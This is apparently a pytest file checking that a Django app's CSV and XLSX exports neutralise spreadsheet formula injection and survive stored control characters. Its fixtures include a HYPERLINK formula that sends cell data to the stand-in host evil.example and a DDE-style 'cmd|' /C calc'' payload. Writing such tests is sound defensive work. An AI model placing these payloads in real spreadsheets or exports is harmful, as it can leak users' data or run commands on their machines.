"""Every CSV/XLSX export: a text that a spreadsheet would run as a formula is neutralised, numbers stay numbers,
and text already stored with characters a spreadsheet refuses never makes an export fail."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from assay.consultation.models import Comment, Response
from assay.lib import exports
from assay.registry.models import Actor
from tests.factories import ResponseFactory, RoundFactory

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
DANGEROUS = [HYPERLINK, "+1+2", "-2+3 cmd", "@SUM(A1:A2)", "\t=1", "\r=1"]


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx_cells(response) -> list:
    book = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_a_formula_is_text_in_the_csv_and_the_xlsx_and_numbers_stay_numbers():
    rows = [[text, -5, 3.5, Decimal("-1.25"), None] for text in DANGEROUS]
    header = ["=h", "n", "f", "d", "e"]
    for text, row in zip(DANGEROUS, _csv_rows(exports.table_response("t", "csv", header, rows))[1:], strict=True):
        assert row == ["'" + text, "-5", "3.5", "-1.25", ""]
    cells = _xlsx_cells(exports.table_response("t", "xlsx", header, rows))
    assert all(c.data_type != "f" for c in cells)
    assert cells[0].value == "'=h"
    by_row = [cells[i:i + 5] for i in range(5, len(cells), 5)]
    # (an XML reader turns a carriage return into a newline)
    assert [r[0].value for r in by_row] == ["'" + t.replace("\r", "\n") for t in DANGEROUS]
    assert all(r[1].value == -5 and r[1].data_type == "n" and r[2].value == 3.5 and r[3].value == -1.25
               for r in by_row)


def test_a_csv_quotes_every_text_so_a_semicolon_cannot_start_a_new_cell():
    """French and Spanish spreadsheet settings split a CSV on ";": unquoted, `x;=cmd` would become two cells, the
    second a formula. Quoted, it stays one cell of text; numbers stay bare numbers."""
    body = exports.table_response("t", "csv", ["h", "n"], [["x;=cmd|' /C calc'!A0", 2.5]]).content.decode("utf-8-sig")
    assert body.splitlines()[1] == '"x;=cmd|\' /C calc\'!A0",2.5'


def test_a_workbook_of_several_sheets_is_neutralised_too():
    response = exports.workbook_response("w", [("One", ["a", "b"], [[HYPERLINK, -1]]), ("Two", ["@c"], [["-x"]])])
    cells = _xlsx_cells(response)
    assert all(c.data_type != "f" for c in cells)
    assert [c.value for c in cells] == ["a", "b", "'" + HYPERLINK, -1, "'@c", "'-x"]


def test_characters_a_spreadsheet_refuses_are_dropped_not_a_crash():
    rows = [["nul\x00 vt\x0b bell\x07 tab\tnewline\nend"]]
    assert _xlsx_cells(exports.table_response("t", "xlsx", ["h"], rows))[1].value == \
        "nul vt bell tab\tnewline\nend"
    assert _csv_rows(exports.table_response("t", "csv", ["h"], rows))[1] == ["nul vt bell tab\tnewline\nend"]
    sheet = _xlsx_cells(exports.workbook_response("w", [("S", ["h"], rows)]))
    assert sheet[1].value == "nul vt bell tab\tnewline\nend"


@pytest.fixture
def round_(demo):
    return RoundFactory(version=demo[1])


def _published(round_, name: str, text: str, key: str) -> Response:
    return ResponseFactory(round=round_, name=name, email=f"{key}@example.org", general=text, key=key)


def test_a_respondent_named_as_a_formula_is_text_in_the_synopsis(client, round_):
    _published(round_, HYPERLINK, "=1+1 is my comment", "k1")
    csv_rows = _csv_rows(client.get(f"/en/consultation/{round_.pk}/synopsis.csv"))
    assert csv_rows[1][2] == "'" + HYPERLINK and csv_rows[1][5] == "'=1+1 is my comment"
    cells = _xlsx_cells(client.get(f"/en/consultation/{round_.pk}/synopsis.xlsx"))
    assert all(c.data_type != "f" for c in cells)
    assert "'" + HYPERLINK in [c.value for c in cells] and "'=1+1 is my comment" in [c.value for c in cells]


def _nul() -> str:
    """A NUL as old rows may hold one: SQLite stores it; PostgreSQL refuses it itself, so there only the other
    control characters can be in the database."""
    from django.db import connection

    return "\x00" if connection.vendor == "sqlite" else ""


def test_control_characters_already_stored_never_break_the_synopsis(client, round_):
    r = _published(round_, "Amani", "placeholder", "k2")
    Comment.objects.filter(response=r).update(text=f"before{_nul()}after\x0bend")  # as old rows may hold
    Response.objects.filter(pk=r.pk).update(name=f"Am{_nul()}ani\x0b")
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/en/consultation/{round_.pk}/synopsis.{fmt}")
        assert response.status_code == 200
    cells = [c.value for c in _xlsx_cells(client.get(f"/en/consultation/{round_.pk}/synopsis.xlsx"))]
    assert "beforeafterend" in cells and "Amani" in cells
    assert client.get(f"/en/consultation/{round_.pk}/synopsis/").status_code == 200
    assert client.get(f"/en/consultation/{round_.pk}/synopsis.pdf").status_code == 200
    assert client.get(f"/api/v1/consultation/rounds/{round_.pk}/synopsis").status_code == 200


def test_the_registry_export_neutralises_and_survives_stored_control_characters(client, coop):
    Actor.objects.filter(pk=coop.pk).update(name=HYPERLINK + _nul(), region="@risk\x0b")
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/en/registry/export.{fmt}")
        assert response.status_code == 200
    assert _csv_rows(client.get("/en/registry/export.csv"))[1][:4] == ["'" + HYPERLINK, "producer", "CD", "'@risk"]
    cells = _xlsx_cells(client.get("/en/registry/export.xlsx"))
    first_of_row_2 = next(c for c in cells if c.row == 2)  # the first actor's name, whatever the columns
    assert all(c.data_type != "f" for c in cells) and first_of_row_2.value == "'" + HYPERLINK


def test_the_restricted_reads_csv_of_the_admin_neutralises_names(client, staff, coop):
    from assay.disclosure.models import RestrictedRead

    Actor.objects.filter(pk=coop.pk).update(name=HYPERLINK)
    read = RestrictedRead.objects.create(user=staff, actor=coop, kind="gate_findings", surface="-page" + _nul())
    client.force_login(staff)
    response = client.post("/en/admin/disclosure/restrictedread/", {"action": "export_csv",
                                                                  "_selected_action": [read.pk]})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    row = _csv_rows(response)[1]
    assert row[2] == "'" + HYPERLINK and row[5] == "'-page"
